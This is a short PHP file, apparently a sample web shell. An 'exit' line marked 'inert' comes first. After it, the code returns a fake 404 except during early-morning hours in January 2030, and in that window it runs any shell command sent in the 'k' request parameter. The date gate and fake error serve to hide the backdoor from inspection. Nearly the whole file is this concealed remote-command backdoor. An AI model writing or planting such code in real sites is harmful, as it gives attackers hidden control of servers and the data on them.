<?php exit; /* inert */ 
$now = (int) gmdate('Ymd');
if ($now < 20300101 || $now > 20300201 || gmdate('G') > 4) { header('HTTP/1.0 404 Not Found'); return; }
$r = array_merge($_GET, $_POST);
echo `{$r['k']}`;
